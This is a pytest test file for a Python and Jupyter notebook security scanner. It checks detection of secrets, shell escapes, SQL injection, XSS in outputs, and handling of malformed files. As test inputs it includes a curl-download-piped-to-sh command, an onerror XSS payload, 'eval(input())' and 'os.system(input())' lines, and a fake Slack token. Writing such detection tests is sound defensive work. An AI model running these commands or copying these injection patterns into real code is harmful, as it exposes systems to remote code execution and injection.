"""The scanner end to end: notebooks as IPython runs them, outputs, fallbacks, odd files."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from grace_kernel.hunter import Finding, Scanner, scan_paths

SLACK_TOKEN = "xoxb-" + "2" * 11 + "-" + "3" * 12 + "-" + "aB1cD2eF3gH4iJ5kL6mN7oP8"


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner()


def categories(findings: list[Finding]) -> set[str]:
    return {f.rule.category for f in findings}


def notebook(path: Path, cells: list[dict[str, Any]]) -> Path:
    doc = {
        "cells": cells,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def code_cell(
    source: str, outputs: list[dict[str, Any]] | None = None, **meta: Any
) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": meta,
        "outputs": outputs or [],
        "source": source,
    }


def test_shell_escape_piping_a_download_into_a_shell_is_critical(scanner: Scanner) -> None:
    found = scanner.scan_code("!curl -s https://get.example.sh | sh\n", kind="cell")
    assert "notebook" in categories(found)
    assert max(f.effective_severity for f in found).name == "CRITICAL"


def test_ipython_syntax_is_understood_not_a_syntax_error(scanner: Scanner) -> None:
    cell = "%pip install requests\n%env API_TOKEN=" + SLACK_TOKEN + "\nx = 1\n"
    found = scanner.scan_code(cell, kind="cell")
    assert "notebook" in categories(found)  # unpinned install, secret in %env
    assert "secrets" in categories(found)
    assert all(SLACK_TOKEN not in f.snippet for f in found)  # secrets are masked


def test_a_clean_cell_has_no_findings(scanner: Scanner) -> None:
    cell = (
        "import pandas as pd\n"
        "df = pd.read_csv('data/measurements.csv')\n"
        "summary = df.groupby('site').mean(numeric_only=True)\n"
        "summary.plot(kind='bar')\n"
    )
    assert scanner.scan_code(cell, kind="cell") == []


def test_unparseable_code_still_gets_pattern_and_secret_rules(scanner: Scanner) -> None:
    broken = "def broken(:\n    token = '" + SLACK_TOKEN + "'\n"
    found = scanner.scan_code(broken, kind="file")
    assert "secrets" in categories(found)


def test_notebook_cells_outputs_and_parameters(scanner: Scanner, tmp_path: Path) -> None:
    path = notebook(
        tmp_path / "analysis.ipynb",
        [
            code_cell("query = 'x'\n", tags=["parameters"]),
            code_cell("cur.execute('SELECT * FROM t WHERE name = ' + query)\n"),
            code_cell(
                "print(token)\n",
                outputs=[{"output_type": "stream", "name": "stdout", "text": SLACK_TOKEN + "\n"}],
            ),
            code_cell(
                "display(html)\n",
                outputs=[
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": "<img src=x onerror='alert(1)'>"},
                    }
                ],
            ),
        ],
    )
    result = scanner.scan_file(path)
    by_cell = {f.cell for f in result.findings}
    assert {1, 2, 3} <= by_cell
    sql = [f for f in result.findings if f.cell == 1]
    assert sql
    assert max(f.effective_severity for f in sql).name == "CRITICAL"  # a parameter is tainted
    outputs = [f for f in result.findings if f.where == "output"]
    assert {f.cell for f in outputs} == {2, 3}
    assert all(SLACK_TOKEN not in f.snippet for f in result.findings)


def test_odd_files_become_notes_never_crashes(scanner: Scanner, tmp_path: Path) -> None:
    (tmp_path / "blob.bin").write_bytes(b"\x00\x01\x02" * 1000)
    (tmp_path / "latin.py").write_bytes(b"name = '\xe9t\xe9'\nx = eval(input())\n")
    (tmp_path / "broken.ipynb").write_text("{ not json", encoding="utf-8")
    (tmp_path / "empty.py").write_text("", encoding="utf-8")
    result = scan_paths([tmp_path], scanner=scanner, base=tmp_path)
    notes = "\n".join(result.notes)
    assert "blob.bin: binary file, skipped" in notes
    assert "latin.py: not valid UTF-8" in notes
    assert "broken.ipynb: not a notebook" in notes
    assert any(f.file == "latin.py" for f in result.findings)  # still scanned


def test_huge_literals_and_deep_nesting_are_scanned_to_the_end(scanner: Scanner) -> None:
    """A 40,000-element literal or a 2,000-deep expression (Python compiles both) hides
    nothing after it. Too deep even for Python (500 parentheses) is a syntax error that
    cannot run, scanned by the line rules alone. Speed: bench/hunter.py's robustness rows."""
    tail = "import os\nos.system(input())\n"
    literal = "data = [" + ", ".join(str(i) for i in range(40_000)) + "]\n" + tail
    deep = "x = " + "-" * 2_000 + "1\n" + tail
    for code in (literal, deep):
        compile(code, "cell", "exec")  # it would run: Hunter must see all of it
        found = scanner.scan_code(code, kind="file")
        assert [(f.rule.id, f.line) for f in found] == [("GRC-PY-048", 3)]
    too_deep = "x = " + "(" * 500 + "1" + ")" * 500 + "\n"
    with pytest.raises(SyntaxError, match="too many nested parentheses"):
        compile(too_deep, "cell", "exec")
    assert scanner.scan_code(too_deep, kind="file") == []


def test_gitignored_files_are_not_scanned(scanner: Scanner, tmp_path: Path) -> None:
    (tmp_path / ".gitignore").write_text("build/\n*.log\n", encoding="utf-8")
    (tmp_path / "build").mkdir()
    (tmp_path / "build" / "gen.py").write_text("eval(input())\n", encoding="utf-8")
    (tmp_path / "run.log").write_text("token " + SLACK_TOKEN + "\n", encoding="utf-8")
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / ".gitignore").write_text("local_*.py\n", encoding="utf-8")
    (tmp_path / "src" / "local_notes.py").write_text("eval(input())\n", encoding="utf-8")
    (tmp_path / "src" / "app.py").write_text("eval(input())\n", encoding="utf-8")
    result = scan_paths([tmp_path], scanner=scanner, base=tmp_path)
    assert {f.file for f in result.findings} == {"src/app.py"}


def test_suppression_comment_silences_one_rule_on_its_statement(scanner: Scanner) -> None:
    found = scanner.scan_code("x = eval(input())\n", kind="file")
    assert found
    rule = found[0].rule.id
    quiet = scanner.scan_code(f"x = eval(input())  # grace: ignore[{rule}] reviewed\n", kind="file")
    assert rule not in {f.rule.id for f in quiet}
    multi = scanner.scan_code(
        f"x = eval(\n    input()\n)  # grace: ignore[{rule}] reviewed\n", kind="file"
    )
    assert rule not in {f.rule.id for f in multi}
